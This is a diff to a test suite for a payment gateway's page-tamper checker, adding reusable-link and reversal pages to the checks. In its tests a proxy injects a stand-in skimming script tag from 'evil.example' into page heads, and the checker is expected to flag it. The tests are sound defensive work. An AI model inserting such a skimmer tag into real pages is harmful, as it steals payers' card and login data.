@@ -2,10 +2,14 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi 
 import { checkPages } from '../../../src/commands/pages/check-pages.ts';
 import { reportPages } from '../../../src/commands/pages/pages.ts';
 import { listInventory } from '../../../src/commands/pages/script-inventory.ts';
+import { createReusableLink } from '../../../src/domain/reusable-links/create-link.ts';
+import { reusablePath } from '../../../src/domain/reusable-links/reusable-link.ts';
 import { checkUp } from '../../../src/health/check-up.ts';
 import { readHealth } from '../../../src/health/health.ts';
 import { pageAssets } from '../../../src/pages/assets.ts';
+import { newId } from '../../../src/primitives/id.ts';
 import { createLink } from '../../support/payer.ts';
+import { paidPse } from '../../support/reversals.ts';
 import { openSubscriber } from '../../support/subscriptions.ts';
 import { type Passing, startTamperingProxy, type Tamper } from '../../support/tampering-proxy.ts';
 import { startTestGateway, type TestGateway } from '../../support/test-gateway.ts';
@@ -13,6 +17,8 @@ import { startTestGateway, type TestGateway } from '../../support/test-gateway.t
 let shop: TestGateway;
 let proxy: Awaited<ReturnType<typeof startTamperingProxy>>;
 let link: string;
+let reusable: string;
+let reversal: string;
 
 beforeAll(async () => {
   shop = await startTestGateway();
@@ -21,6 +27,12 @@ beforeAll(async () => {
   const subscriber = await openSubscriber(shop);
   await subscriber.subscribe();
   link = new URL((await createLink(subscriber.client)).payment_method.url).pathname;
+  const merchant = await shop.merchant();
+  reversal = `/reversion/${(await paidPse(shop, merchant.client)).handle}`;
+  const input = { amount: 25_000, description: 'Torta' };
+  reusable = reusablePath(
+    (await createReusableLink(shop.gateway, merchant.merchant, newId('reusableLink'), input)).id,
+  );
 });
 afterAll(async () => {
   await proxy.close();
@@ -53,8 +65,8 @@ const inFile =
 test('pages as this build sends them: nothing differs, with all that they load', async () => {
   const { differences, lookedAt } = await checkPages(shop.gateway);
   expect(differences).toEqual([]);
-  // Three pages, their style sheets and icon at least.
-  expect(lookedAt).toBeGreaterThanOrEqual(6);
+  // Ten pages of nobody's, four of payers, their style sheets and icon at least.
+  expect(lookedAt).toBeGreaterThanOrEqual(17);
 });
 
 const evil = '<script src="https://evil.example/skim.js"></script>';
@@ -100,6 +112,15 @@ describe('what somebody changes on the way is found', () => {
       expect.stringMatching(/has <form[^>]*action="https:\/\/evil/),
       expect.stringMatching(/lacks <form/),
     ]);
+  });
+
+  test.each([
+    ['a reusable link', () => reusable, /^\/cobro\/\w+: has <script src="https:\/\/evil/],
+    // Its address is the payer's own: it is not written down.
+    ['a reversal', () => reversal, /^\/reversion\/\.\.\.: has <script src="https:\/\/evil/],
+  ])('a script on the page of %s alone', async (_page, path, messages) => {
+    proxy.set(inHtml('</head>', `${evil}</head>`, path()));
+    expect(await check()).toEqual([expect.stringMatching(messages)]);
   });
 
   test('a script for browsers alone: the check looks like one', async () => {
